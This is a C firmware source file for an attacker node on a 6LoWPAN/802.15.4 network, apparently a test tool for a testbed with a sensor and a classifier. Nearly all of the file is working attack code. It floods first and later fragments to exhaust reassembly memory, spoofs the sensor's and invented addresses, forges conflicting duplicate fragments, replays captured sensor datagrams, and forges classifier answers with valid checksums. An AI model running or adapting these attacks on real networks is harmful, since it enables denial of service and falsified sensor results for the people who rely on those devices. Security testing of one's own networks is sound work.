/*
 * Whoever has a radio: it knows no key, listens to all frames, and sends frames that look as if others had sent them.
 * The first of its peers is the classifier, the second the sensor.
 *
 * It goes through the attacks, ten seconds each, and says on the serial port which one begins; whoever has a debugger
 * on it writes the number of one to `attack_chosen`. For networks of your own only.
 */
#include <string.h>

#include "hal.h"
#include "lowpan_application.h"
#include "mac.h"
#include "radio.h"

#define PHASE_MS 10000u
#define IPV6_BYTES 40u
#define UDP_BYTES 8u
#define UNCOMPRESSED 0x41u
#define CHAINED 0xFFu
#define SENSOR_PORT 61617u
/* Of the datagrams that are begun and not finished; its first fragment covers 88 bytes. */
#define SIZE 448u
#define COVERED 88u
#define HEADER 16u
#define OUTPUT_BYTES 4u

enum attack {
    NONE,
    EARLY_FIRST,    /* first fragments of datagrams that never go on, from its own address */
    VICTIM_FIRST,   /* the same from the sensor's address */
    SPOOFED_FIRST,  /* the same from addresses that nobody has */
    LATER_FLOOD,    /* later fragments of datagrams that nobody began, from the sensor's address */
    DUPLICATES,     /* for each datagram of the sensor: its third fragment with other bytes */
    REPLAY,         /* a datagram of the sensor, once more and once more */
    FALSE_ANSWERS,  /* answers to the sensor's windows, from the classifier's address */
    ATTACKS
};

static const char *const names[ATTACKS] = {
    "none",        "early_first", "victim_first", "spoofed_first",
    "later_flood", "duplicates",  "replay",       "false_answers",
};

/* Milliseconds between two frames of an attack; those of the last three follow what is heard. */
static const uint32_t periods[ATTACKS] = {1000u, 20u, 20u, 20u, 10u, 1000u, 100u, 1000u};

#define ALL 0xFFu
volatile uint32_t attack_chosen = ALL;

struct kept {
    uint8_t length;
    uint8_t bytes[MAC_LARGEST];
};

#define KEPT 8u
static struct kept kept[KEPT]; /* frames of one datagram of the sensor */
static uint32_t kept_count, replayed;
static struct kept queue; /* a frame that answers what was heard */
static uint32_t queued;
static uint32_t attack = ATTACKS, due, sent, chance = 1u;
static uint16_t tag = 1u;

static uint32_t random_number(void) {
    chance ^= chance << 13;
    chance ^= chance >> 17;
    chance ^= chance << 5;
    return chance;
}

static void put_half(uint8_t *bytes, uint32_t value) {
    bytes[0] = (uint8_t)(value >> 8);
    bytes[1] = (uint8_t)value;
}

/* The header of a frame; nobody acknowledges it. */
static uint8_t mac_header(const struct lpc_address *source, const struct lpc_address *destination, uint8_t *frame) {
    struct mac_frame header;
    memset(&header, 0, sizeof header);
    header.type = MAC_DATA;
    header.sequence = (uint8_t)random_number();
    header.destination_pan = header.source_pan = LOWPAN_PAN;
    header.source = *source;
    header.destination = *destination;
    return mac_write_header(&header, frame);
}

/* IPv6 and UDP headers between two nodes. */
static void ip_header(const struct lpc_address *source, const struct lpc_address *destination, uint16_t source_port,
                      uint16_t destination_port, uint16_t size, uint8_t *made) {
    memset(made, 0, IPV6_BYTES + UDP_BYTES);
    made[0] = 0x60u;
    put_half(made + 4, size - IPV6_BYTES);
    made[6] = 17u;
    made[7] = 64u;
    lowpan_link_local(source, made + 8);
    lowpan_link_local(destination, made + 24);
    put_half(made + 40, source_port);
    put_half(made + 42, destination_port);
    put_half(made + 44, size - IPV6_BYTES);
}

static void put_noise(uint8_t *bytes, uint32_t count) {
    for (uint32_t i = 0u; i < count; i++) {
        bytes[i] = (uint8_t)(random_number() >> 8);
    }
}

/* A first fragment to the classifier; every other one claims to begin a chain. */
static void send_first(const struct lpc_address *source) {
    uint8_t frame[MAC_LARGEST];
    uint8_t at = mac_header(source, &lpc_peers[0].address, frame);
    const uint32_t chained = sent & 1u;
    if (chained) {
        frame[at++] = CHAINED;
    }
    put_half(frame + at, 0xC000u | SIZE);
    put_half(frame + at + 2, tag++);
    frame[at + 4] = UNCOMPRESSED;
    at = (uint8_t)(at + 5u);
    /* The ports and the first bytes are noise: what is reserved is memory. */
    ip_header(source, &lpc_peers[0].address, SENSOR_PORT, LOWPAN_PORT, SIZE, frame + at);
    put_noise(frame + at + IPV6_BYTES + UDP_BYTES, COVERED - IPV6_BYTES - UDP_BYTES);
    at = (uint8_t)(at + COVERED);
    if (chained) {
        put_noise(frame + at, 4u);
        at = (uint8_t)(at + 4u);
    }
    (void)radio_send(frame, at);
}

static void send_later(const struct lpc_address *source) {
    uint8_t frame[MAC_LARGEST];
    uint8_t at = mac_header(source, &lpc_peers[0].address, frame);
    if ((sent & 1u) != 0u) {
        frame[at++] = CHAINED;
    }
    put_half(frame + at, 0xE000u | SIZE);
    put_half(frame + at + 2, random_number());
    frame[at + 4] = (uint8_t)(COVERED / 8u + random_number() % 32u);
    put_noise(frame + at + 5, 64u);
    (void)radio_send(frame, (uint8_t)(at + 69u));
}

static void send_nobodys(void) {
    struct lpc_address nobody = lpc_peers[1].address;
    put_noise(nobody.bytes + 4, 4u);
    send_first(&nobody);
}

/* A fragment has come from the sensor: `place` is that of its header in the frame. */
static uint32_t fragment_of(const struct kept *frame, uint32_t *place) {
    struct mac_frame header;
    if (mac_parse(frame->bytes, frame->length, &header) != MAC_OK || header.type != MAC_DATA ||
        memcmp(&header.source, &lpc_peers[1].address, sizeof header.source) != 0 || header.payload_length < 8u) {
        return 0u;
    }
    *place = header.payload;
    if (frame->bytes[*place] == CHAINED) {
        (*place)++;
    }
    const uint8_t form = frame->bytes[*place] & 0xF8u;
    return form == 0xC0u || form == 0xE0u ? form : 0u;
}

/* What comes behind a later fragment, with other bytes of the same number; once for each datagram. */
static void forge_next(const struct kept *heard, uint32_t place) {
    static uint8_t last[2];
    struct kept *const made = &queue;
    const uint8_t *const fragment = heard->bytes + place;
    const uint32_t chained = fragment[-1] == CHAINED, length = heard->length - place - 5u;
    if (memcmp(last, fragment + 2, sizeof last) == 0) {
        return;
    }
    memcpy(last, fragment + 2, sizeof last);
    uint8_t at = mac_header(&lpc_peers[1].address, &lpc_peers[0].address, made->bytes);
    if (chained) {
        made->bytes[at++] = CHAINED;
    }
    memcpy(made->bytes + at, fragment, 4u);
    made->bytes[at + 4] = (uint8_t)(fragment[4] + length / 8u);
    put_noise(made->bytes + at + 5, length);
    made->length = (uint8_t)(at + 5u + length);
    queued = 1u;
}

/* The number of a window, where a first fragment shows it: version 1, request 1, then it. */
static uint32_t number_in(const struct kept *heard, uint32_t place, uint8_t number[2]) {
    for (uint32_t i = place; i + HEADER <= heard->length; i++) {
        const uint8_t *const it = heard->bytes + i;
        if (it[0] == 1u && it[1] == 1u && it[4] == 0u && it[5] == 0u && it[12] == 0u && it[13] == 0u && it[14] != 0u) {
            number[0] = it[2];
            number[1] = it[3];
            return 1u;
        }
    }
    return 0u;
}

static uint32_t sum_of(const uint8_t *bytes, uint32_t count, uint32_t sum) {
    for (uint32_t i = 0u; i < count; i++) {
        sum += (i & 1u) != 0u ? bytes[i] : (uint32_t)bytes[i] << 8;
    }
    return sum;
}

/* Class 0, whatever the window was, with a checksum that is right; in one frame, without a chain. */
static void forge_answer(const uint8_t number[2]) {
    const uint16_t size = IPV6_BYTES + UDP_BYTES + HEADER + OUTPUT_BYTES;
    struct kept *const made = &queue;
    uint8_t at = mac_header(&lpc_peers[0].address, &lpc_peers[1].address, made->bytes);
    made->bytes[at++] = UNCOMPRESSED;
    uint8_t *const ip = made->bytes + at;
    uint8_t *const udp = ip + IPV6_BYTES;
    ip_header(&lpc_peers[0].address, &lpc_peers[1].address, LOWPAN_PORT, SENSOR_PORT, size, ip);
    uint8_t *const answer = udp + UDP_BYTES;
    memset(answer, 0, HEADER + OUTPUT_BYTES);
    answer[0] = 1u;
    answer[1] = 2u;
    answer[2] = number[0];
    answer[3] = number[1];
    answer[15] = OUTPUT_BYTES;
    answer[HEADER] = 127u;
    uint32_t sum = sum_of(ip + 8, 32u, 17u + size - IPV6_BYTES);
    sum = sum_of(udp, size - IPV6_BYTES, sum);
    while (sum > 0xFFFFu) {
        sum = (sum & 0xFFFFu) + (sum >> 16);
    }
    put_half(udp + 6, ~sum & 0xFFFFu);
    made->length = (uint8_t)(at + size);
    queued = 1u;
}

static void keep(const struct kept *heard, uint32_t form) {
    if (form == 0xC0u && replayed == 0u) {
        kept_count = 0u;
    }
    if (kept_count < KEPT && replayed == 0u && (form == 0xC0u || kept_count != 0u)) {
        kept[kept_count++] = *heard;
    }
}

static void hear(const struct kept *heard) {
    uint32_t place = 0u;
    uint8_t number[2];
    const uint32_t form = fragment_of(heard, &place);
    if (form == 0u) {
        return;
    }
    if (attack == REPLAY) {
        keep(heard, form);
    } else if (form == 0xE0u && attack == DUPLICATES) {
        forge_next(heard, place);
    } else if (form == 0xC0u && attack == FALSE_ANSWERS && number_in(heard, place, number)) {
        forge_answer(number);
    }
}

/* The kept frames again, as they were. */
static void replay(void) {
    if (kept_count < 3u) {
        return; /* a datagram of the sensor is not over yet */
    }
    (void)radio_send(kept[replayed % kept_count].bytes, kept[replayed % kept_count].length);
    replayed++;
}

static void attack_now(void) {
    switch (attack) {
    case EARLY_FIRST:
        send_first(lowpan_address());
        break;
    case VICTIM_FIRST:
        send_first(&lpc_peers[1].address);
        break;
    case SPOOFED_FIRST:
        send_nobodys();
        break;
    case LATER_FLOOD:
        send_later(&lpc_peers[1].address);
        break;
    case REPLAY:
        replay();
        break;
    default:
        break;
    }
    sent++;
}

static void choose(uint32_t now) {
    const uint32_t chosen = attack_chosen < ATTACKS ? attack_chosen : now / PHASE_MS % ATTACKS;
    if (chosen == attack) {
        return;
    }
    attack = chosen;
    due = now;
    kept_count = replayed = queued = 0u;
    static char line[32];
    uint32_t length = 0u;
    for (const char *word = "attack "; *word != '\0'; word++) {
        line[length++] = *word;
    }
    for (const char *word = names[attack]; *word != '\0'; word++) {
        line[length++] = *word;
    }
    line[length++] = '\n';
    hal_uart_write((const uint8_t *)line, length);
}

void lowpan_application_start(void) {
    /* Once more, but for all frames: it acknowledges none of them. */
    const struct radio_settings settings = {
        .channel = LOWPAN_CHANNEL,
        .power = LOWPAN_POWER,
        .pan = LOWPAN_PAN,
        .extended_address = *lowpan_address(),
        .seed = 99u,
        .everything = 1u,
    };
    radio_init(&settings);
}

uint32_t lowpan_application_poll(uint32_t now_ms) {
    const struct radio_frame *frame;
    choose(now_ms);
    while ((frame = radio_receive()) != 0) {
        struct kept heard;
        heard.length = frame->length;
        memcpy(heard.bytes, frame->bytes, frame->length);
        radio_release();
        hear(&heard);
    }
    if (radio_outcome() == RADIO_SENDING) {
        return 1u;
    }
    if (queued != 0u) {
        queued = 0u;
        (void)radio_send(queue.bytes, queue.length);
    } else if ((int32_t)(now_ms - due) >= 0) {
        due = now_ms + periods[attack];
        attack_now();
    }
    return queued != 0u ? 1u : due - now_ms;
}

void lowpan_receive(const struct lowpan_datagram *datagram) {
    (void)datagram;
}
